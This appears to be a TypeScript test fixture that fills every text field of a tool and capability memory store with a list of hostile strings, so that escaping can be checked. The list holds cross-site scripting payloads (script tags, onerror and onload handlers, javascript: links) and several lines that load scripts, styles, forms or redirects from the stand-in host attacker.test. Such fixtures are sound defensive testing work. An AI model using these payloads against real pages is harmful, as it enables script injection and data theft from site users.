import type { Pml, Tool } from "@pml/core";

import { openMemory } from "./small-memory.js";

/** Each would call `hit` if any part of it ran, or send for what is at `attacker.test`. */
export const HOSTILE: readonly [what: string, text: string][] = [
  ["a script", `<script>hit("script")</script>`],
  ["the end of the data and a script", `</script><script>hit("end")</script>`],
  ["its end in other letters", `</ScRiPt ><script>hit("letters")</script >`],
  ["a comment that swallows the end", `<!--<script>hit("comment")`],
  ["an image that fails", `"><img src=x onerror=hit("image")>`],
  ["an image from elsewhere", `<img src="https://attacker.test/pixel.png">`],
  ["a drawing that loads", `<svg onload=hit("svg")><script href="https://attacker.test/a.js"></script></svg>`],
  ["a link that runs", `javascript:hit("link")`],
  ["an attribute", `' onmouseover='hit("single')' autofocus onfocus="hit('focus')" x="`],
  ["a frame", `<iframe srcdoc="<script>parent.hit('frame')</script>"></iframe>`],
  ["a style", `</style><style>@import "https://attacker.test/a.css"; * { display: none }</style>`],
  ["a form", `<form action="https://attacker.test"><input name=a autofocus></form>`],
  [
    "a base and a refresh",
    `<base href="https://attacker.test/"><meta http-equiv=refresh content="0;url=https://attacker.test">`,
  ],
  ["line ends of scripts", `\u2028hit("line")\u2029hit("paragraph")`],
  ["text that turns around", `\u202E)"ti"(tih\u202C`],
  ["a template", "${hit('template')} {{hit('moustache')}} `${hit('tick')}`"],
  ["an escape", `\\u003cscript\\u003ehit("escape")\\x3c/script\\x3e`],
  ["half of a character", `\\uD800 <script>hit("half")</script>`],
  ["a name of prototypes", `__proto__ constructor toString`],
  ["a very long line", `${"<b>".repeat(400)}hit("long")`],
];

/** A tool's id holds no white space and is not endless; a star would make it a pattern. */
const inId = (text: string): string => text.replace(/\s/g, "/").replaceAll("*", "+").slice(0, 250);

function createTools(): Tool[] {
  return HOSTILE.map(([, text], at) => ({
    id: `h${at}:${inId(text)}`,
    description: text,
    inputSchema: {
      type: "object",
      properties: { [text]: { type: "string", description: text, default: text, enum: [text, "x"] } },
    },
    outputSchema: { type: "object", properties: { [text]: { type: text, description: text } } },
    examples: [{ [text]: text }],
    annotations: { readOnlyHint: true },
    execute(args) {
      if (Object.keys(args).length > 1) throw new Error(text);
      return { [text]: text };
    },
  }));
}

/** A memory in which every field that takes a text has each of them in it. */
export async function openHostileMemory(): Promise<Pml> {
  const pml = await openMemory({ tools: createTools(), scope: { actor: `<img src=x onerror=hit("actor")>` } });
  for (const [at, [, text]] of HOSTILE.entries()) await learn(pml, at, text);
  return pml;
}

async function learn(pml: Pml, at: number, text: string): Promise<void> {
  const called = `mcp["h${at}"][${JSON.stringify(inId(text))}]`;
  const code = `// ${text.replace(/[\n\r\u2028\u2029]/g, " ")}
if (given !== ${JSON.stringify(text)}) {
  for (const each of [${JSON.stringify(text)}]) await ${called}({ [each]: each, ["more" + each]: ${at} });
}
return await ${called}({ ${JSON.stringify(text)}: given });`;
  const { id } = await pml.capabilities.create({ intent: text, description: text, code });
  for (const given of [text, "fails"]) await pml.execute({ capability: id, args: { given }, intent: text });
  const [trace] = await pml.store.listTraces({ capabilityId: id, limit: 1 });
  if (trace !== undefined) await pml.feedback({ traceId: trace.id, ok: false, correction: text });
  const name = `hostile:text_n${at}`;
  await pml.names.assign({ capabilityId: id, name });
  await pml.names.tag(name, { add: [text.slice(0, 60)] });
  await pml.names.update(name, {
    code: `if (given === "nothing") return ${JSON.stringify(text)};\n${code}`,
    changeSummary: text.slice(0, 200),
  });
  await pml.execute({ capability: name, args: { given: text }, intent: text });
  await pml.store.create({
    intent: `${text} ${at}`,
    source: { type: "code", code: `return ${at}` },
    toolsUsed: [`h${at}:${inId(text)}`],
    structure: {
      nodes: [
        { id: text, type: "task", tool: text, arguments: { [text]: { type: "literal", value: text } }, line: 1 },
        { id: "__proto__", type: "decision", condition: text, outcomes: [text, "__proto__"], kind: text },
        { id: "l", type: "loop", condition: text, kind: text },
      ],
      edges: [
        { from: text, to: "__proto__", type: "sequence" },
        { from: "__proto__", to: text, type: "conditional", outcome: text },
        { from: "l", to: "l", type: "contains" },
      ],
    },
    parameters: { properties: { [text]: { type: text, default: text } } },
  });
}
